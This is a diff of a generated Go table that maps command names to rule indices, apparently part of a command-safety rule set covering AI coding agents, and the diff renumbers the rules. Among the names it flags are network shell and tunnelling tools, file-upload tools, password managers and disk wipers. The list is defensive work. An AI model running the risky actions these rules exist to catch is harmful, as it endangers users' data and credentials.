-				Rules:   []uint16{75},
+				Rules:   []uint16{76},
 			},
 			nameEntry{
 				Name:    "buildah",
 				Program: 63,
-				Rules:   []uint16{51, 248, 377},
+				Rules:   []uint16{52, 249, 378},
 			},
 			nameEntry{
 				Name:    "buildkite-agent",
 				Program: -1,
-				Rules:   []uint16{25, 191},
+				Rules:   []uint16{25, 192},
 			},
 			nameEntry{
 				Name: "builtin",
@@ -11307,12 +11323,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bun",
 				Program: 40,
-				Rules:   []uint16{120, 121, 122, 123, 124, 125, 131, 158, 186, 187, 375, 386, 387, 396},
+				Rules:   []uint16{121, 122, 123, 124, 125, 126, 132, 159, 187, 188, 376, 387, 388, 397},
 			},
 			nameEntry{
 				Name:    "bundle",
 				Program: 44,
-				Rules:   []uint16{396},
+				Rules:   []uint16{397},
 			},
 			nameEntry{
 				Name:    "bundle-exec",
@@ -11325,7 +11341,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bunx",
 				Program: 41,
-				Rules:   []uint16{375, 386, 390},
+				Rules:   []uint16{376, 387, 391},
 			},
 			nameEntry{
 				Name:    "bunzip2",
@@ -11334,7 +11350,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bup",
 				Program: 66,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "busted",
@@ -11343,12 +11359,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "busybox",
 				Program: 4,
-				Rules:   []uint16{383},
+				Rules:   []uint16{384},
 			},
 			nameEntry{
 				Name:    "bw",
 				Program: 62,
-				Rules:   []uint16{33, 57, 246},
+				Rules:   []uint16{33, 58, 247},
 			},
 			nameEntry{
 				Name:    "bwrap",
@@ -11357,7 +11373,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bx",
 				Program: -1,
-				Rules:   []uint16{177},
+				Rules:   []uint16{178},
 			},
 			nameEntry{
 				Name:    "byobu",
@@ -11374,7 +11390,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bzr",
 				Program: -1,
-				Rules:   []uint16{342},
+				Rules:   []uint16{343},
 			},
 			nameEntry{
 				Name:    "c++",
@@ -11391,12 +11407,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cacls",
 				Program: -1,
-				Rules:   []uint16{299, 301},
+				Rules:   []uint16{300, 302},
 			},
 			nameEntry{
 				Name:    "caddy",
 				Program: 46,
-				Rules:   []uint16{383},
+				Rules:   []uint16{384},
 			},
 			nameEntry{
 				Name:    "caffeinate",
@@ -11412,12 +11428,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cap",
 				Program: 62,
-				Rules:   []uint16{162, 252},
+				Rules:   []uint16{163, 253},
 			},
 			nameEntry{
 				Name:    "caprover",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "capsh",
@@ -11426,7 +11442,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cargo",
 				Program: 32,
-				Rules:   []uint16{40, 52, 131, 375, 376, 386, 396},
+				Rules:   []uint16{41, 53, 132, 376, 377, 387, 397},
 			},
 			nameEntry{
 				Name:    "cargo-watch",
@@ -11439,7 +11455,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cassandra",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "cat",
@@ -11452,7 +11468,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cbq",
 				Program: -1,
-				Rules:   []uint16{134, 144},
+				Rules:   []uint16{135, 145},
 			},
 			nameEntry{
 				Name:    "cc",
@@ -11465,7 +11481,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ccloud",
 				Program: 62,
-				Rules:   []uint16{177},
+				Rules:   []uint16{178},
 			},
 			nameEntry{
 				Name: "cd",
@@ -11473,12 +11489,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cdk",
 				Program: 62,
-				Rules:   []uint16{157, 159, 160},
+				Rules:   []uint16{158, 160, 161},
 			},
 			nameEntry{
 				Name:    "cdktf",
 				Program: 62,
-				Rules:   []uint16{151, 155},
+				Rules:   []uint16{152, 156},
 			},
 			nameEntry{
 				Name:    "celery",
@@ -11487,77 +11503,77 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ceph",
 				Program: -1,
-				Rules:   []uint16{133},
+				Rules:   []uint16{134},
 			},
 			nameEntry{
 				Name:    "ceph-volume",
 				Program: -1,
-				Rules:   []uint16{133},
+				Rules:   []uint16{134},
 			},
 			nameEntry{
 				Name:    "cephadm",
 				Program: -1,
-				Rules:   []uint16{133},
+				Rules:   []uint16{134},
 			},
 			nameEntry{
 				Name:    "certbot",
 				Program: 65,
-				Rules:   []uint16{280},
+				Rules:   []uint16{281},
 			},
 			nameEntry{
 				Name:    "certutil",
 				Program: -1,
-				Rules:   []uint16{393, 445, 465},
+				Rules:   []uint16{394, 446, 466},
 			},
 			nameEntry{
 				Name:    "certutil.exe",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "cf",
 				Program: 62,
-				Rules:   []uint16{25, 26, 51, 177, 200},
+				Rules:   []uint16{25, 26, 52, 178, 201},
 			},
 			nameEntry{
 				Name:    "cfdisk",
 				Program: 65,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "cfssl",
 				Program: -1,
-				Rules:   []uint16{280},
+				Rules:   []uint16{281},
 			},
 			nameEntry{
 				Name:    "chage",
 				Program: 65,
-				Rules:   []uint16{409},
+				Rules:   []uint16{410},
 			},
 			nameEntry{
 				Name:    "chalice",
 				Program: 62,
-				Rules:   []uint16{157, 159},
+				Rules:   []uint16{158, 160},
 			},
 			nameEntry{
 				Name:    "chamber",
 				Program: 62,
-				Rules:   []uint16{33, 246},
+				Rules:   []uint16{33, 247},
 			},
 			nameEntry{
 				Name:    "changeset",
 				Program: -1,
-				Rules:   []uint16{375},
+				Rules:   []uint16{376},
 			},
 			nameEntry{
 				Name:    "charmcraft",
 				Program: 33,
-				Rules:   []uint16{375, 376},
+				Rules:   []uint16{376, 377},
 			},
 			nameEntry{
 				Name:    "chattr",
 				Program: 20,
-				Rules:   []uint16{294, 299},
+				Rules:   []uint16{295, 300},
 			},
 			nameEntry{
 				Name:    "checkov",
@@ -11574,7 +11590,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "chef-client",
 				Program: -1,
-				Rules:   []uint16{252},
+				Rules:   []uint16{253},
 			},
 			nameEntry{
 				Name:    "chezmoi",
@@ -11587,22 +11603,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "chisel",
 				Program: -1,
-				Rules:   []uint16{357},
+				Rules:   []uint16{358},
 			},
 			nameEntry{
 				Name:    "chkconfig",
 				Program: 65,
-				Rules:   []uint16{403},
+				Rules:   []uint16{404},
 			},
 			nameEntry{
 				Name:    "chmod",
 				Program: 20,
-				Rules:   []uint16{291, 292, 389, 408},
+				Rules:   []uint16{292, 293, 390, 409},
 			},
 			nameEntry{
 				Name:    "choco",
 				Program: 45,
-				Rules:   []uint16{444, 468},
+				Rules:   []uint16{445, 469},
 			},
 			nameEntry{
 				Name:    "chown",
@@ -11611,12 +11627,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "chpasswd",
 				Program: 65,
-				Rules:   []uint16{409},
+				Rules:   []uint16{410},
 			},
 			nameEntry{
 				Name:    "chrome-webstore-upload",
 				Program: -1,
-				Rules:   []uint16{371},
+				Rules:   []uint16{372},
 			},
 			nameEntry{
 				Name:    "chroot",
@@ -11629,32 +11645,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "chsh",
 				Program: 65,
-				Rules:   []uint16{409},
+				Rules:   []uint16{410},
 			},
 			nameEntry{
 				Name:    "cipher",
 				Program: -1,
-				Rules:   []uint16{284, 302},
+				Rules:   []uint16{285, 303},
 			},
 			nameEntry{
 				Name:    "cipher.exe",
 				Program: -1,
-				Rules:   []uint16{302},
+				Rules:   []uint16{303},
 			},
 			nameEntry{
 				Name:    "circleci",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name:    "cirrus",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name:    "civo",
 				Program: 62,
-				Rules:   []uint16{25, 26, 177, 205, 256},
+				Rules:   []uint16{25, 26, 178, 206, 257},
 			},
 			nameEntry{
 				Name:    "cksum",
@@ -11679,17 +11695,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "claude",
 				Program: 67,
-				Rules:   []uint16{469, 471},
+				Rules:   []uint16{470, 472},
 			},
 			nameEntry{
 				Name:    "claudia",
 				Program: -1,
-				Rules:   []uint16{157},
+				Rules:   []uint16{158},
 			},
 			nameEntry{
 				Name:    "clawhub",
 				Program: -1,
-				Rules:   []uint16{375},
+				Rules:   []uint16{376},
 			},
 			nameEntry{
 				Name: "clear",
@@ -11697,22 +11713,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "clear-disk",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{304},
 			},
 			nameEntry{
 				Name:    "clearml-data",
 				Program: -1,
-				Rules:   []uint16{140},
+				Rules:   []uint16{141},
 			},
 			nameEntry{
 				Name:    "clerk",
 				Program: 62,
-				Rules:   []uint16{189},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "clever",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "clickhouse",
@@ -11721,12 +11737,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "clickhouse-client",
 				Program: 59,
-				Rules:   []uint16{146},
+				Rules:   []uint16{147},
 			},
 			nameEntry{
 				Name:    "cline",
 				Program: 67,
-				Rules:   []uint16{469},
+				Rules:   []uint16{470},
 			},
 			nameEntry{
 				Name:    "clippy-driver",
@@ -11747,7 +11763,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cloudflared",
 				Program: 46,
-				Rules:   []uint16{208, 367},
+				Rules:   []uint16{209, 368},
 			},
 			nameEntry{
 				Name:    "cloudquery",
@@ -11756,12 +11772,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "clush",
 				Program: -1,
-				Rules:   []uint16{161, 162},
+				Rules:   []uint16{162, 163},
 			},
 			nameEntry{
 				Name:    "clusterctl",
 				Program: -1,
-				Rules:   []uint16{247},
+				Rules:   []uint16{248},
 			},
 			nameEntry{
 				Name:    "clusterdb",
@@ -11778,7 +11794,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cmdkey",
 				Program: -1,
-				Rules:   []uint16{37, 57},
+				Rules:   []uint16{38, 58},
 			},
 			nameEntry{
 				Name:    "cmp",
@@ -11787,12 +11803,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cn",
 				Program: 67,
-				Rules:   []uint16{469},
+				Rules:   []uint16{470},
 			},
 			nameEntry{
 				Name:    "cockroach",
 				Program: 59,
-				Rules:   []uint16{117},
+				Rules:   []uint16{118},
 			},
 			nameEntry{
 				Name:    "code",
@@ -11801,7 +11817,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "code-push",
 				Program: -1,
-				Rules:   []uint16{371},
+				Rules:   []uint16{372},
 			},
 			nameEntry{
 				Name:    "codeception",
@@ -11810,7 +11826,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "codefresh",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name:    "codeql",
@@ -11827,17 +11843,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "codex",
 				Program: 67,
-				Rules:   []uint16{469, 471},
+				Rules:   []uint16{470, 472},
 			},
 			nameEntry{
 				Name:    "cog",
 				Program: -1,
-				Rules:   []uint16{374},
+				Rules:   []uint16{375},
 			},
 			nameEntry{
 				Name:    "colima",
 				Program: 62,
-				Rules:   []uint16{242},
+				Rules:   []uint16{243},
 			},
 			nameEntry{
 				Name:    "colordiff",
@@ -11871,7 +11887,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "composer",
 				Program: 45,
-				Rules:   []uint16{124, 396},
+				Rules:   []uint16{125, 397},
 			},
 			nameEntry{
 				Name:    "conan",
@@ -11884,7 +11900,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "conda",
 				Program: 42,
-				Rules:   []uint16{375},
+				Rules:   []uint16{376},
 			},
 			nameEntry{
 				Name:    "configure",
@@ -11893,7 +11909,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "confluent",
 				Program: 62,
-				Rules:   []uint16{177},
+				Rules:   []uint16{178},
 			},
 			nameEntry{
 				Name:    "conjur",
@@ -11903,17 +11919,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "console",
 				Program: 49,
-				Rules:   []uint16{130},
+				Rules:   []uint16{131},
 			},
 			nameEntry{
 				Name:    "consul",
 				Program: 59,
-				Rules:   []uint16{116, 246},
+				Rules:   []uint16{117, 247},
 			},
 			nameEntry{
 				Name:    "contentful",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name: "continue",
@@ -11925,17 +11941,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "convex",
 				Program: 49,
-				Rules:   []uint16{41, 42, 130, 134, 184},
+				Rules:   []uint16{42, 43, 131, 135, 185},
 			},
 			nameEntry{
 				Name:    "coolify",
 				Program: -1,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "copilot",
 				Program: 67,
-				Rules:   []uint16{247, 469, 471},
+				Rules:   []uint16{248, 470, 472},
 			},
 			nameEntry{
 				Name:    "corepack",
@@ -11944,7 +11960,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "couchbase-cli",
 				Program: -1,
-				Rules:   []uint16{134, 144},
+				Rules:   []uint16{135, 145},
 			},
 			nameEntry{
 				Name:    "couchdb",
@@ -11961,7 +11977,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cp",
 				Program: 18,
-				Rules:   []uint16{63, 286},
+				Rules:   []uint16{64, 287},
 			},
 			nameEntry{
 				Name:    "cpan",
@@ -11974,7 +11990,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cpio",
 				Program: 24,
-				Rules:   []uint16{53},
+				Rules:   []uint16{54},
 			},
 			nameEntry{
 				Name:    "cpm",
@@ -11995,17 +12011,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cqlsh",
 				Program: 59,
-				Rules:   []uint16{146},
+				Rules:   []uint16{147},
 			},
 			nameEntry{
 				Name:    "crackmapexec",
 				Program: -1,
-				Rules:   []uint16{55},
+				Rules:   []uint16{56},
 			},
 			nameEntry{
 				Name:    "crane",
 				Program: 63,
-				Rules:   []uint16{51, 377, 378},
+				Rules:   []uint16{52, 378, 379},
 			},
 			nameEntry{
 				Name:    "createdb",
@@ -12014,7 +12030,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "createuser",
 				Program: 60,
-				Rules:   []uint16{118},
+				Rules:   []uint16{119},
 			},
 			nameEntry{
 				Name:    "credo",
@@ -12023,7 +12039,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "credstash",
 				Program: 62,
-				Rules:   []uint16{33, 246},
+				Rules:   []uint16{33, 247},
 			},
 			nameEntry{
 				Name:    "crictl",
@@ -12032,12 +12048,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "croc",
 				Program: 57,
-				Rules:   []uint16{366, 380},
+				Rules:   []uint16{367, 381},
 			},
 			nameEntry{
 				Name:    "crontab",
 				Program: 65,
-				Rules:   []uint16{402},
+				Rules:   []uint16{403},
 			},
 			nameEntry{
 				Name:    "cross",
@@ -12050,22 +12066,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "crossplane",
 				Program: 62,
-				Rules:   []uint16{157},
+				Rules:   []uint16{158},
 			},
 			nameEntry{
 				Name:    "crush",
 				Program: 67,
-				Rules:   []uint16{469},
+				Rules:   []uint16{470},
 			},
 			nameEntry{
 				Name:    "cryptcat",
 				Program: -1,
-				Rules:   []uint16{357},
+				Rules:   []uint16{358},
 			},
 			nameEntry{
 				Name:    "cryptsetup",
 				Program: 65,
-				Rules:   []uint16{283, 428},
+				Rules:   []uint16{284, 429},
 			},
 			nameEntry{
 				Name:    "crystal",
@@ -12078,17 +12094,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cscript",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "cscript.exe",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "csh",
 				Program: -1,
-				Rules:   []uint16{447, 448},
+				Rules:   []uint16{448, 449},
 			},
 			nameEntry{
 				Name:    "cspell",
@@ -12101,7 +12117,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "csrutil",
 				Program: 65,
-				Rules:   []uint16{411, 424, 452},
+				Rules:   []uint16{412, 425, 453},
 			},
 			nameEntry{
 				Name:    "csvcut",
@@ -12134,27 +12150,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "curator",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "curator_cli",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "curl",
 				Program: 53,
-				Rules:   []uint16{382},
+				Rules:   []uint16{383},
 			},
 			nameEntry{
 				Name:    "curl-upload",
 				Program: -1,
-				Rules:   []uint16{366},
+				Rules:   []uint16{367},
 			},
 			nameEntry{
 				Name:    "curlftpfs",
 				Program: -1,
-				Rules:   []uint16{380},
+				Rules:   []uint16{381},
 			},
 			nameEntry{
 				Name:    "curlie",
@@ -12171,7 +12187,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cursor-agent",
 				Program: 67,
-				Rules:   []uint16{469, 471},
+				Rules:   []uint16{470, 472},
 			},
 			nameEntry{
 				Name:    "cut",
@@ -12180,7 +12196,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cvs",
 				Program: -1,
-				Rules:   []uint16{342},
+				Rules:   []uint16{343},
 			},
 			nameEntry{
 				Name:    "cwebp",
@@ -12189,7 +12205,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cycle",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "cygpath",
@@ -12198,7 +12214,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "cypher-shell",
 				Program: 59,
-				Rules:   []uint16{144},
+				Rules:   []uint16{145},
 			},
 			nameEntry{
 				Name:    "cypress",
@@ -12219,17 +12235,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dagster",
 				Program: 46,
-				Rules:   []uint16{141},
+				Rules:   []uint16{142},
 			},
 			nameEntry{
 				Name:    "darkhttpd",
 				Program: -1,
-				Rules:   []uint16{383},
+				Rules:   []uint16{384},
 			},
 			nameEntry{
 				Name:    "dart",
 				Program: 33,
-				Rules:   []uint16{375},
+				Rules:   []uint16{376},
 			},
 			nameEntry{
 				Name:    "dartanalyzer",
@@ -12242,42 +12258,42 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dash",
 				Program: 4,
-				Rules:   []uint16{391, 392, 447, 448},
+				Rules:   []uint16{392, 393, 448, 449},
 			},
 			nameEntry{
 				Name:    "dashlane",
 				Program: -1,
-				Rules:   []uint16{33, 57},
+				Rules:   []uint16{33, 58},
 			},
 			nameEntry{
 				Name:    "databricks",
 				Program: 62,
-				Rules:   []uint16{25, 26, 140},
+				Rules:   []uint16{25, 26, 141},
 			},
 			nameEntry{
 				Name:    "datadog-ci",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "date",
 				Program: 9,
-				Rules:   []uint16{453},
+				Rules:   []uint16{454},
 			},
 			nameEntry{
 				Name:    "db-migrate",
 				Program: 49,
-				Rules:   []uint16{127, 128, 130},
+				Rules:   []uint16{128, 129, 131},
 			},
 			nameEntry{
 				Name:    "dban",
 				Program: -1,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "dbmate",
 				Program: 49,
-				Rules:   []uint16{127, 128, 130},
+				Rules:   []uint16{128, 129, 131},
 			},
 			nameEntry{
 				Name:    "dbt",
@@ -12298,7 +12314,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dcli",
 				Program: -1,
-				Rules:   []uint16{33, 57},
+				Rules:   []uint16{33, 58},
 			},
 			nameEntry{
 				Name:    "dconf",
@@ -12314,12 +12330,12 @@ var shipped = Set{
 			},
 			nameEntry{
 				Name:  "declare",
-				Rules: []uint16{278, 430, 480, 484},
+				Rules: []uint16{279, 431, 481, 485},
 			},
 			nameEntry{
 				Name:    "defaults",
 				Program: 65,
-				Rules:   []uint16{467},
+				Rules:   []uint16{468},
 			},
 			nameEntry{
 				Name:    "del",
@@ -12336,12 +12352,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "deluser",
 				Program: 65,
-				Rules:   []uint16{409},
+				Rules:   []uint16{410},
 			},
 			nameEntry{
 				Name:    "deno",
 				Program: 40,
-				Rules:   []uint16{124, 125, 375, 386},
+				Rules:   []uint16{125, 126, 376, 387},
 			},
 			nameEntry{
 				Name:    "depcheck",
@@ -12354,7 +12370,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "deployctl",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "deta",
@@ -12380,17 +12396,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "devin",
 				Program: 67,
-				Rules:   []uint16{469},
+				Rules:   []uint16{470},
 			},
 			nameEntry{
 				Name:    "devspace",
 				Program: -1,
-				Rules:   []uint16{157, 231},
+				Rules:   []uint16{158, 232},
 			},
 			nameEntry{
 				Name:    "devtunnel",
 				Program: -1,
-				Rules:   []uint16{367},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "df",
@@ -12403,7 +12419,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "diesel",
 				Program: 49,
-				Rules:   []uint16{127, 130},
+				Rules:   []uint16{128, 131},
 			},
 			nameEntry{
 				Name:    "diff",
@@ -12416,22 +12432,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dig",
 				Program: 56,
-				Rules:   []uint16{360},
+				Rules:   []uint16{361},
 			},
 			nameEntry{
 				Name:    "dir",
 				Program: 7,
-				Rules:   []uint16{22, 417},
+				Rules:   []uint16{22, 418},
 			},
 			nameEntry{
 				Name:    "directus",
 				Program: 49,
-				Rules:   []uint16{130},
+				Rules:   []uint16{131},
 			},
 			nameEntry{
 				Name:    "direnv",
 				Program: 65,
-				Rules:   []uint16{404},
+				Rules:   []uint16{405},
 			},
 			nameEntry{
 				Name: "dirname",
@@ -12442,17 +12458,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "diskpart",
 				Program: 65,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "diskshadow",
 				Program: -1,
-				Rules:   []uint16{302},
+				Rules:   []uint16{303},
 			},
 			nameEntry{
 				Name:    "diskutil",
 				Program: 65,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name: "disown",
@@ -12468,7 +12484,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "django-admin",
 				Program: 49,
-				Rules:   []uint16{129, 130},
+				Rules:   []uint16{130, 131},
 			},
 			nameEntry{
 				Name:    "djlint",
@@ -12489,42 +12505,42 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dmsetup",
 				Program: -1,
-				Rules:   []uint16{298},
+				Rules:   []uint16{299},
 			},
 			nameEntry{
 				Name:    "dnf",
 				Program: 45,
-				Rules:   []uint16{444},
+				Rules:   []uint16{445},
 			},
 			nameEntry{
 				Name:    "doas",
 				Program: 65,
-				Rules:   []uint16{406},
+				Rules:   []uint16{407},
 			},
 			nameEntry{
 				Name:    "docker",
 				Program: 63,
-				Rules:   []uint16{51, 52, 58, 232, 233, 234, 236, 237, 238, 239, 240, 241, 248, 251, 377},
+				Rules:   []uint16{52, 53, 59, 233, 234, 235, 237, 238, 239, 240, 241, 242, 249, 252, 378},
 			},
 			nameEntry{
 				Name:    "docker-compose",
 				Program: 63,
-				Rules:   []uint16{234, 235},
+				Rules:   []uint16{235, 236},
 			},
 			nameEntry{
 				Name:    "docker-machine",
 				Program: 63,
-				Rules:   []uint16{157},
+				Rules:   []uint16{158},
 			},
 			nameEntry{
 				Name:    "doctl",
 				Program: 62,
-				Rules:   []uint16{25, 26, 42, 52, 177, 199, 205, 206, 256, 378, 446},
+				Rules:   []uint16{25, 26, 43, 53, 178, 200, 206, 207, 257, 379, 447},
 			},
 			nameEntry{
 				Name:    "doctrine",
 				Program: 49,
-				Rules:   []uint16{127, 128, 130},
+				Rules:   []uint16{128, 129, 131},
 			},
 			nameEntry{
 				Name:    "docusaurus",
@@ -12533,27 +12549,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dog",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "doggo",
 				Program: 56,
-				Rules:   []uint16{360},
+				Rules:   []uint16{361},
 			},
 			nameEntry{
 				Name:    "dogshell",
 				Program: -1,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "dokku",
 				Program: 62,
-				Rules:   []uint16{41, 42, 184},
+				Rules:   []uint16{42, 43, 185},
 			},
 			nameEntry{
 				Name:    "doppler",
 				Program: 62,
-				Rules:   []uint16{33, 198, 246},
+				Rules:   []uint16{33, 199, 247},
 			},
 			nameEntry{
 				Name:    "dos2unix",
@@ -12580,32 +12596,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dotnet",
 				Program: 35,
-				Rules:   []uint16{127, 131, 375, 376},
+				Rules:   []uint16{128, 132, 376, 377},
 			},
 			nameEntry{
 				Name:    "dotnet-ef",
 				Program: 49,
-				Rules:   []uint16{127, 130},
+				Rules:   []uint16{128, 131},
 			},
 			nameEntry{
 				Name:    "dpkg",
 				Program: 45,
-				Rules:   []uint16{386, 444, 468},
+				Rules:   []uint16{387, 445, 469},
 			},
 			nameEntry{
 				Name:    "dracut",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "draft",
 				Program: -1,
-				Rules:   []uint16{247},
+				Rules:   []uint16{248},
 			},
 			nameEntry{
 				Name:    "dragonfly-cli",
 				Program: -1,
-				Rules:   []uint16{108},
+				Rules:   []uint16{109},
 			},
 			nameEntry{
 				Name:    "drawio",
@@ -12614,72 +12630,72 @@ var shipped = Set{
 			nameEntry{
 				Name:    "drbdadm",
 				Program: -1,
-				Rules:   []uint16{133},
+				Rules:   []uint16{134},
 			},
 			nameEntry{
 				Name:    "drill",
 				Program: 56,
-				Rules:   []uint16{76, 360},
+				Rules:   []uint16{77, 361},
 			},
 			nameEntry{
 				Name:    "drizzle-kit",
 				Program: 49,
-				Rules:   []uint16{122, 123},
+				Rules:   []uint16{123, 124},
 			},
 			nameEntry{
 				Name:    "droid",
 				Program: 67,
-				Rules:   []uint16{469},
+				Rules:   []uint16{470},
 			},
 			nameEntry{
 				Name:    "drone",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name:    "dropbox",
 				Program: -1,
-				Rules:   []uint16{380},
+				Rules:   []uint16{381},
 			},
 			nameEntry{
 				Name:    "dropdb",
 				Program: 60,
-				Rules:   []uint16{107},
+				Rules:   []uint16{108},
 			},
 			nameEntry{
 				Name:    "dropuser",
 				Program: 60,
-				Rules:   []uint16{107},
+				Rules:   []uint16{108},
 			},
 			nameEntry{
 				Name:    "drupal",
 				Program: -1,
-				Rules:   []uint16{132},
+				Rules:   []uint16{133},
 			},
 			nameEntry{
 				Name:    "drush",
 				Program: 49,
-				Rules:   []uint16{132},
+				Rules:   []uint16{133},
 			},
 			nameEntry{
 				Name:    "dscl",
 				Program: -1,
-				Rules:   []uint16{410, 467},
+				Rules:   []uint16{411, 468},
 			},
 			nameEntry{
 				Name:    "dseditgroup",
 				Program: -1,
-				Rules:   []uint16{409, 410},
+				Rules:   []uint16{410, 411},
 			},
 			nameEntry{
 				Name:    "dsh",
 				Program: -1,
-				Rules:   []uint16{161},
+				Rules:   []uint16{162},
 			},
 			nameEntry{
 				Name:    "dsrm",
 				Program: -1,
-				Rules:   []uint16{189},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "dstat",
@@ -12704,7 +12720,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "duckdb",
 				Program: 59,
-				Rules:   []uint16{146},
+				Rules:   []uint16{147},
 			},
 			nameEntry{
 				Name:    "duf",
@@ -12717,12 +12733,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "duplicacy",
 				Program: 66,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "duplicity",
 				Program: 66,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "dust",
@@ -12731,12 +12747,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "dvc",
 				Program: 46,
-				Rules:   []uint16{140, 141},
+				Rules:   []uint16{141, 142},
 			},
